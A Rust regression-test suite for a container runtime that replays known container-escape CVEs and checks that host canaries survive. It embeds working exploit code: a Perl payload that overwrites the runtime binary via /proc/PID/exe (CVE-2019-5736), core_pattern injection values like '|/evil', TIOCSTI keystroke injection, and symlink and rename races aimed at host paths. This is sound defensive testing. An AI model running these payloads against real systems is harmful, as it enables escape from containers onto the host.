//! Known attacks on runtimes. Each test is named after what it is known as; host canaries are compared before and after.

use crate::harness::host::{self, Layout};
use crate::harness::{Bundle, Pty, add_mount, add_namespace, bind, mount, rounds, runtime};
use serde_json::json;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};

/// Keeps a descriptor of another process' executable while that is being executed, tries to make its mount writable, waits
/// until nobody executes it any more, and then opens it for writing. A plain open would give ETXTBSY and prove nothing.
/// Arguments: the pid whose executable it is, a file that says when it has ended.
const OVERWRITE: &str = r##"
    my ($pid, $ended) = @ARGV;
    sub report { open(my $out, '>', '/tmp/new'); print $out @_; close $out; rename '/tmp/new', '/tmp/report' }
    my $path = "/proc/$pid/exe";
    my $held = syscall(2, $path, 0x200000);
    $held >= 0 or die "cannot hold $path: $!";
    my $clear = pack("QQQQ", 0, 1, 0, 0);
    my $empty = "";
    syscall(442, $held, $empty, 0x1000, $clear, 32);
    syscall(442, -100, $path, 0, $clear, 32);
    open(my $marker, '>', '/tmp/holding'); close $marker;
    until (-e $ended) { select(undef, undef, undef, 0.02) }
    my $self = "/proc/self/fd/$held";
    for (1 .. 100) {
        my $fd = syscall(2, $self, 1);
        if ($fd >= 0) {
            my $text = "#!/bin/sh\necho overwritten\n";
            syscall(1, $fd, $text, length $text);
            report("written");
            exit 0;
        }
        report("refused: $!") if $_ == 100;
        select(undef, undef, undef, 0.01);
    }
"##;

/// Attacks the executable of a first process that waits to be started; what is then in the copy of the binary.
fn overwrite_through_init(binary: &Path) -> (Vec<u8>, Vec<u8>, String) {
    let b = Bundle::busybox().with_usr().privileged().with_copy_of(binary).args(["sleep", "1000"]);
    let before = std::fs::read(&b.binary).unwrap();
    let c = b.create();
    let attack = b.call(["exec", &b.id, "perl", "-e", OVERWRITE, "1", "/tmp/ended"]).spawn();
    c.wait_for_file("tmp/holding");
    c.start().ok();
    std::fs::write(b.in_rootfs("tmp/ended"), "").unwrap();
    // The exec that waits for perl executes the copy as well: it is killed, perl goes on.
    attack.signal(nix::sys::signal::SIGKILL);
    c.wait_for_file("tmp/report");
    let said = host::read(b.in_rootfs("tmp/report"));
    drop(attack);
    let after = std::fs::read(&b.binary).unwrap();
    // Put back, so that the container can be deleted.
    std::fs::write(b.path("whole"), &before).unwrap();
    b.shell("chmod 755 whole && mv whole copy").ok();
    drop(c);
    (before, after, said)
}

#[test]
fn cve_2019_5736_overwriting_the_runtime() {
    not_on_runc!("1.1.15 runs from a copy of itself, which may be written");
    let (before, after, said) = overwrite_through_init(&runtime().path);
    assert!(said.contains("refused"), "{said}");
    assert!(before == after, "the runtime was overwritten");
}

/// The attack itself works: against a build that leaves the seal's descriptor open.
#[test]
fn cve_2019_5736_against_a_leaky_build() {
    corten_only!("a build without its protection");
    let Some(leaky) = std::env::var_os("CORTEN_LEAKY_BIN").map(PathBuf::from).filter(|f| f.exists()) else {
        skip!("CORTEN_LEAKY_BIN names no build with the feature leak-seal");
    };
    let (before, after, said) = overwrite_through_init(&leaky);
    assert!(said.contains("written"), "{said}");
    assert!(before != after, "the attack must succeed where a descriptor is left");
}

/// A loop that keeps descriptors of every executable that appears, during many execs.
#[test]
fn cve_2019_5736_during_many_execs() {
    not_on_runc!("1.1.15 runs from a copy of itself, which may be written");
    const COLLECT: &str = r#"
        my %held; my $clear = pack("QQQQ", 0, 1, 0, 0); my $empty = "";
        open(my $up, '>', '/tmp/up'); close $up;
        until (-e '/tmp/ended') {
            opendir(my $proc, '/proc');
            for my $pid (grep { /^\d+$/ && $_ > 1 && $_ != $$ } readdir $proc) {
                my $path = "/proc/$pid/exe";
                my $link = readlink $path;
                next if !defined $link || $link =~ m{/(busybox|perl)$};
                my $fd = syscall(2, $path, 0x200000);
                next if $fd < 0;
                syscall(442, $fd, $empty, 0x1000, $clear, 32);
                if (keys %held > 200) { syscall(3, $fd) } else { $held{$fd} = $link }
            }
        }
        my $written = 0;
        for my $fd (keys %held) {
            my $self = "/proc/self/fd/$fd";
            my $out = syscall(2, $self, 1);
            next if $out < 0;
            my $text = "overwritten"; syscall(1, $out, $text, length $text); $written++;
        }
        open(my $done, '>', '/tmp/done'); print $done "held ", scalar(keys %held), " written $written\n"; close $done;
        rename '/tmp/done', '/tmp/report';
    "#;
    let b = Bundle::busybox().with_usr().privileged().with_copy_of(&runtime().path);
    let b = b.args(["perl", "-e", COLLECT]).edit(|s| s["process"]["rlimits"] = json!([]));
    let before = std::fs::read(&b.binary).unwrap();
    let c = b.start();
    c.wait_for_file("tmp/up");
    for _ in 0..rounds(500, 40) {
        b.cli(["exec", &b.id, "/proc/self/exe", "--version"]);
    }
    std::fs::write(b.in_rootfs("tmp/ended"), "").unwrap();
    c.wait_for_file("tmp/report");
    let report = host::read(b.in_rootfs("tmp/report"));
    assert!(before == std::fs::read(&b.binary).unwrap(), "{report}");
    assert!(report.contains("written 0"), "{report}");
}

#[test]
fn cve_2019_5736_as_the_entrypoint() {
    for (args, file) in [(json!(["/proc/self/exe", "--version"]), ""), (json!(["/evil"]), "#!/proc/self/exe\n")] {
        let b = Bundle::busybox().privileged().with_copy_of(&runtime().path).edit(|s| s["process"]["args"] = args);
        let b = if file.is_empty() { b } else { b.file("evil", 0o755, file) };
        let before = std::fs::read(&b.binary).unwrap();
        b.run();
        assert!(before == std::fs::read(&b.binary).unwrap());
    }
}

/// Row 2: what a container can see of a process that joins it.
#[test]
fn cve_2016_9962_descriptors_of_the_joining_process() {
    const LOOK: &str = r#"
        open(my $up, '>', '/tmp/up'); close $up;
        my %seen;
        until (-e '/tmp/ended') {
            for my $fd (glob '/proc/[0-9]*/fd/*') {
                my $to = readlink $fd;
                $seen{$to} = 1 if defined $to && $fd !~ m{^/proc/(1|$$)/};
            }
        }
        open(my $out, '>', '/tmp/new'); print $out join("\n", sort keys %seen), "\n"; close $out; rename '/tmp/new', '/tmp/report';
    "#;
    let b = Bundle::busybox().with_usr().privileged().args(["perl", "-e", LOOK]);
    let c = b.start();
    c.wait_for_file("tmp/up");
    for _ in 0..40 {
        c.exec(["true"]).ok();
    }
    std::fs::write(b.in_rootfs("tmp/ended"), "").unwrap();
    c.wait_for_file("tmp/report");
    for line in host::read(b.in_rootfs("tmp/report")).lines().filter(|l| l.starts_with('/')) {
        // Standard output and error of the test itself are files of the host; a path of a directory would be a door.
        assert!(
            !Path::new(line).is_dir() || line == "/" || line.starts_with("/proc"),
            "a host directory is open: {line}"
        );
        assert!(!line.contains("/state.json") && !line.contains("/root/"), "the state is open: {line}");
    }
}

/// Row 4.
#[test]
fn cve_2019_16884_a_mount_over_proc() {
    let b = Bundle::busybox();
    let fake = b.mkdir("fake");
    std::fs::create_dir_all(fake.join("self/attr")).unwrap();
    let b = b.edit(|s| add_mount(s, bind(&fake, "/proc", &["bind"])));
    b.run().code(1).stderr_has("/proc");
    let b = Bundle::busybox().edit(|s| add_mount(s, mount("/proc", "tmpfs", "tmpfs", &[])));
    b.run().code(1).stderr_has("/proc");
    let b = Bundle::busybox().edit(|s| add_mount(s, mount("/proc/self", "tmpfs", "tmpfs", &[])));
    b.run().code(1).stderr_has("/proc");
}

/// Row 5.
#[test]
fn cve_2023_27561_proc_or_sys_is_a_link() {
    for place in ["proc", "sys"] {
        for target in ["/tmp", "../../../tmp", "elsewhere", "/"] {
            let b = Bundle::busybox();
            b.shell(&format!(
                "rm -rf bundle/rootfs/{place} && mkdir bundle/rootfs/elsewhere && ln -s {target} bundle/rootfs/{place}"
            ))
            .ok();
            b.run().code(1).stderr_has(&format!("/{place}"));
        }
        let b = Bundle::busybox();
        b.shell(&format!("rm -rf bundle/rootfs/{place} && touch bundle/rootfs/{place}")).ok();
        b.run().code(1).stderr_has(&format!("/{place}"));
    }
}

/// Row 6: another process swaps a directory of the volume for a link to the host while the mount is made.
#[test]
fn cve_2021_30465_a_racing_volume() {
    not_on_runc!("1.1 makes directories by path, and on the host now and then");
    let b = Bundle::busybox();
    let volume = b.mkdir("volume/dir");
    let volume = volume.parent().unwrap().to_owned();
    let canary = b.mkdir("canary");
    std::fs::write(canary.join("secret"), "of the host").unwrap();
    symlink(&canary, volume.join("link")).unwrap();
    let b = b.sh("ls /vol/dir /vol/link 2>/dev/null | grep -c secret; true").edit(|s| {
        add_mount(s, bind(&volume, "/vol", &["bind"]));
        add_mount(s, mount("/vol/dir/in", "tmpfs", "tmpfs", &[]));
    });
    while_exchanged(&volume.join("dir"), &volume.join("link"), || {
        for _ in 0..rounds(200, 40) {
            let out = b.run();
            // It may fail, or mount inside; the secret is never to be seen.
            assert!(out.status != 0 || out.text() == "0", "{}", out.tell());
            if canary.join("in").exists() {
                break;
            }
        }
    });
    assert!(!canary.join("in").exists(), "a directory was made on the host");
}

/// Exchanges two names as fast as it can, until `what` is done.
fn while_exchanged(one: &Path, two: &Path, what: impl FnOnce()) {
    use nix::fcntl::{AT_FDCWD, RenameFlags, renameat2};
    use std::sync::atomic::{AtomicBool, Ordering::Relaxed};
    /// Also when `what` panics: the scope waits for the thread.
    struct Stop<'a>(&'a AtomicBool);
    impl Drop for Stop<'_> {
        fn drop(&mut self) {
            self.0.store(true, Relaxed);
        }
    }
    let stop = AtomicBool::new(false);
    std::thread::scope(|scope| {
        scope.spawn(|| {
            while !stop.load(Relaxed) {
                let _ = renameat2(AT_FDCWD, one, AT_FDCWD, two, RenameFlags::RENAME_EXCHANGE);
            }
        });
        let _stop = Stop(&stop);
        what();
    });
}

/// Row 7.
#[test]
fn cve_2021_43784_long_messages() {
    for length in [65_535, 65_536, 70_000] {
        let path = format!("/{}", "n".repeat(length - 1));
        let b = Bundle::busybox().edit(|s| add_namespace(s, "network", Some(&path)));
        b.run().code(1);
    }
    let b = Bundle::busybox().user_namespace().edit(|s| {
        let map: Vec<_> =
            (0..10_000).map(|n| json!({"containerID": n * 2, "hostID": 100_000 + n * 2, "size": 1})).collect();
        s["linux"]["uidMappings"] = map.into();
    });
    b.run().code(1);
    // As many as the kernel takes.
    let b = Bundle::busybox().user_namespace().sh("wc -l < /proc/self/uid_map").edit(|s| {
        let map: Vec<_> = (0..200).map(|n| json!({"containerID": n, "hostID": 100_000 + n, "size": 1})).collect();
        s["linux"]["uidMappings"] = map.into();
    });
    b.run().ok().stdout("200\n");
}

/// Row 10.
#[test]
fn cve_2024_21626_a_leaked_working_directory() {
    for fd in 3..41 {
        let b = Bundle::busybox()
            .sh("ls; cat ../../etc/hostname")
            .edit(|s| s["process"]["cwd"] = format!("/proc/self/fd/{fd}").into());
        let out = b.run();
        assert!(out.status != 0, "{}", out.tell());
        if runtime().is_corten() && fd > 30 {
            break;
        }
    }
    let b = Bundle::busybox().edit(|s| s["process"]["cwd"] = "/link".into());
    symlink("/proc/self/fd/7", b.in_rootfs("link")).unwrap();
    b.run().fails();
    let b = Bundle::busybox().args(["sleep", "1000"]);
    let c = b.start();
    for fd in 3..20 {
        c.exec_with(&["--cwd", &format!("/proc/self/fd/{fd}")], &["pwd"]).fails();
    }
    c.sh("ls /proc/1/fd").ok().stdout("0\n1\n2\n");
}

/// Row 11: intermediate directories that turn into links while they are made.
#[test]
fn cve_2024_45310_racing_directories() {
    not_on_runc!("1.1 makes directories by path, and on the host now and then");
    let b = Bundle::busybox();
    let canary = b.mkdir("canary");
    let rootfs = b.rootfs();
    std::fs::create_dir(rootfs.join("a")).unwrap();
    symlink(&canary, rootfs.join("b")).unwrap();
    let b = b.edit(|s| {
        for n in 0..5 {
            add_mount(s, mount(&format!("/a/made/{n}/deep"), "tmpfs", "tmpfs", &[]));
        }
    });
    while_exchanged(&rootfs.join("a"), &rootfs.join("b"), || {
        for _ in 0..rounds(100, 25) {
            b.run();
            if std::fs::read_dir(&canary).unwrap().next().is_some() {
                break;
            }
        }
    });
    assert!(std::fs::read_dir(&canary).unwrap().next().is_none(), "directories were made on the host");
}

/// Row 12: a /dev/null that is not the device masks nothing.
#[test]
fn cve_2025_31133_another_null() {
    not_on_runc!("1.1 binds whatever /dev/null is");
    for make in
        ["ln -s /etc/passwd dev/null", "mkfifo dev/null", "echo x > dev/null", "mkdir dev/null", "ln -s zero dev/null"]
    {
        let b = Bundle::busybox().file("secret", 0o644, "password");
        b.shell(&format!("cd bundle/rootfs && {make}")).ok();
        let b = b.sh("cat /secret; echo; head -c 1 /proc/keys; true").edit(|s| {
            // The root's own /dev, without a tmpfs.
            s["mounts"].as_array_mut().unwrap().retain(|m| !m["destination"].as_str().unwrap().starts_with("/dev"));
            s["linux"]["maskedPaths"].as_array_mut().unwrap().push("/secret".into());
        });
        let out = b.run();
        assert!(out.status != 0 || out.text().is_empty(), "{make}{}", out.tell());
    }
}

/// Row 12, racing: what is a null device when it is looked at is something else when it is used, or the other way round.
#[test]
fn cve_2025_31133_a_null_that_is_exchanged() {
    not_on_runc!("1.1 binds whatever /dev/null is");
    let b = Bundle::busybox().file("secret", 0o644, "password");
    let dev = b.mkdir("dev");
    b.shell("cd dev && mknod -m 666 null c 1 3 && ln -s /etc/passwd other").ok();
    let b = b.sh("cat /secret").edit(|s| {
        let mounts = s["mounts"].as_array_mut().unwrap();
        mounts.retain(|m| !m["destination"].as_str().unwrap().starts_with("/dev"));
        mounts.insert(0, bind(&dev, "/dev", &["rbind"]));
        s["linux"]["maskedPaths"].as_array_mut().unwrap().push("/secret".into());
    });
    let mut started = 0;
    while_exchanged(&dev.join("null"), &dev.join("other"), || {
        for _ in 0..rounds(100, 0) {
            let out = b.run();
            assert!(out.status != 0 || out.text().is_empty(), "{}", out.tell());
            started += usize::from(out.status == 0);
        }
    });
    assert!(started > 0, "none started: nothing was tried");
}

/// Row 13.
#[test]
fn cve_2025_52565_another_console() {
    for make in
        ["ln -s /canary console", "ln -s ../../../../../../canary console", "ln -s /proc/sys/kernel/hostname console"]
    {
        let b = Bundle::busybox();
        let dev = b.mkdir("dev");
        std::fs::write(b.path("canary"), "untouched").unwrap();
        b.shell(&format!("cd dev && mknod -m 666 null c 1 3 && mkdir pts && {make}")).ok();
        let b = b.sh("test -t 0 && echo terminal; stat -c %F /dev/console").edit(|s| {
            s["process"]["terminal"] = true.into();
            let mounts = s["mounts"].as_array_mut().unwrap();
            mounts
                .retain(|m| m["destination"] == "/dev/pts" || !m["destination"].as_str().unwrap().starts_with("/dev"));
            mounts.insert(0, bind(&dev, "/dev", &["rbind"]));
        });
        let mut pty = Pty::new(24, 80);
        let out = b.run_call::<&str>([]).stdio(pty.slave(), pty.slave(), pty.slave()).run();
        let seen = pty.seen().to_owned();
        assert!(out.status != 0 || seen.contains("character special"), "{make}: {seen}");
        assert_eq!(host::read(b.path("canary")), "untouched");
        assert!(!Path::new("/canary").exists());
    }
}

/// Row 14.
#[test]
fn cve_2025_52881_writes_that_are_redirected() {
    let before = host::read("/proc/sys/kernel/core_pattern");
    // A sysctl whose file is, inside, something else.
    let b = Bundle::busybox();
    let fake = b.mkdir("fake/net/ipv4");
    symlink("/proc/sys/kernel/core_pattern", fake.join("ip_forward")).unwrap();
    let fake = b.path("fake");
    let b = b.edit(|s| {
        s["linux"]["sysctl"] = json!({"net.ipv4.ip_forward": "|/evil"});
        add_mount(s, bind(&fake, "/proc/sys", &["bind"]));
    });
    b.run();
    assert_eq!(host::read("/proc/sys/kernel/core_pattern"), before);
}

/// Row 15: where /dev leads.
#[test]
fn cve_2026_41579_dev_is_a_link() {
    not_on_runc!("1.1 makes its links by path, and on the host");
    for target in ["/tmp/{}", "../../../../../../../../tmp/{}", "/proc/self/cwd"] {
        let b = Bundle::busybox();
        let canary = b.mkdir("canary");
        let target = target.replace("{}", &format!("{}/canary", b.id));
        b.shell(&format!("rmdir bundle/rootfs/dev && ln -s {target} bundle/rootfs/dev")).ok();
        b.run();
        assert!(std::fs::read_dir(&canary).unwrap().next().is_none(), "{target}: made on the host");
        // Without a tmpfs the nodes would be made right there.
        let b = b.edit(|s| {
            s["mounts"].as_array_mut().unwrap().retain(|m| !m["destination"].as_str().unwrap().starts_with("/dev"))
        });
        b.run();
        assert!(std::fs::read_dir(&canary).unwrap().next().is_none(), "{target}: made on the host");
    }
    for inner in ["pts", "shm", "fd", "mqueue"] {
        let b = Bundle::busybox();
        let (canary, dev) = (b.mkdir("canary"), b.mkdir("dev"));
        symlink(&canary, dev.join(inner)).unwrap();
        b.shell("cd dev && mknod -m 666 null c 1 3").ok();
        let b = b.edit(|s| {
            let mounts = s["mounts"].as_array_mut().unwrap();
            mounts.retain(|m| m["destination"] != "/dev");
            mounts.insert(1, bind(&dev, "/dev", &["rbind"]));
        });
        b.run();
        assert!(std::fs::read_dir(&canary).unwrap().next().is_none(), "/dev/{inner}: made on the host");
    }
}

/// Row 17.
#[test]
fn cve_2026_55686_a_working_directory_through_a_link() {
    let b = Bundle::busybox();
    let canary = b.mkdir("canary");
    symlink(&canary, b.in_rootfs("out")).unwrap();
    symlink("../../../../../../..", b.in_rootfs("up")).unwrap();
    let up = format!("/up{}/made", canary.display());
    let b = b.edit(|s| {
        s["process"]["cwd"] = "/out/made".into();
        s["process"]["user"] = json!({"uid": 1000, "gid": 1000});
    });
    b.run();
    let b = b.edit(|s| s["process"]["cwd"] = up.into());
    b.run();
    assert!(std::fs::read_dir(&canary).unwrap().next().is_none(), "made on the host");
}

/// Row 18.
#[test]
fn cve_2022_0811_sysctls_with_more_in_them() {
    let before = host::read("/proc/sys/kernel/core_pattern");
    for (name, value) in [
        ("kernel.shm_rmid_forced", "1+kernel.core_pattern=|/evil"),
        ("kernel.core_pattern", "|/evil"),
        ("net.ipv4.../../kernel/core_pattern", "|/evil"),
        ("net/../kernel/core_pattern", "|/evil"),
        ("net.ipv4.ip_forward\nkernel.core_pattern", "1"),
    ] {
        Bundle::busybox().edit(|s| s["linux"]["sysctl"] = json!({name: value})).run().code(1);
        assert_eq!(host::read("/proc/sys/kernel/core_pattern"), before, "{name}");
    }
}

/// Row 21: TIOCSTI into the caller's terminal.
#[test]
fn tiocsti_does_not_reach_the_caller() {
    const TYPE: &str = r#"for my $c (split //, "echo pwned\n") { ioctl(STDIN, 0x5412, $c) } print "tried\n";"#;
    let b = Bundle::busybox().with_usr().privileged().args(["sleep", "1000"]);
    let _c = b.start();
    let mut pty = Pty::new(24, 80);
    let binary = b.binary.to_str().unwrap();
    let words = ["--ctty", "--wait", binary, "--root", "root", "exec", "-t", &b.id, "perl", "-e", TYPE];
    let run = b.host("setsid").args(words).stdio(pty.slave(), pty.slave(), pty.slave()).spawn();
    pty.wait_for("tried");
    run.wait();
    // What is left in the queue of the person's terminal would be read by their shell.
    let shell = b.host("sh").args(["-c", "stty -icanon min 0 time 2; cat"]).stdin_from(pty.slave()).run();
    assert!(!shell.out.contains("pwned"), "{}", shell.tell());
}

/// Row 9: the cgroup of the caller cannot be written from inside.
#[test]
fn cve_2023_25809_the_parents_cgroup() {
    let tree = if host::layout() == Layout::V1 { "/sys/fs/cgroup/pids" } else { "/sys/fs/cgroup" };
    Bundle::busybox().privileged().sh(&format!("echo 0 > {tree}/cgroup.procs")).run().fails().stderr_has("Read-only");
    let shown = Bundle::busybox().privileged().sh("ls /sys/fs/cgroup/pids /sys/fs/cgroup | grep -c 't-cve'").run();
    assert_eq!(shown.text(), "0", "its own cgroup is the root of what it sees");
}

/// A root that is not there any more, or that leads elsewhere.
#[test]
fn the_root_is_opened_once() {
    let b = Bundle::busybox().args(["ls", "/"]);
    let canary = b.mkdir("canary");
    std::fs::write(canary.join("secret"), "").unwrap();
    let rootfs = b.rootfs();
    let away = b.path("bundle/away");
    symlink(&canary, &away).unwrap();
    while_exchanged(&rootfs, &away, || {
        for _ in 0..40 {
            let out = b.run();
            assert!(out.status != 0 || !out.out.contains("secret") || out.out.lines().count() == 1, "{}", out.tell());
        }
    });
}
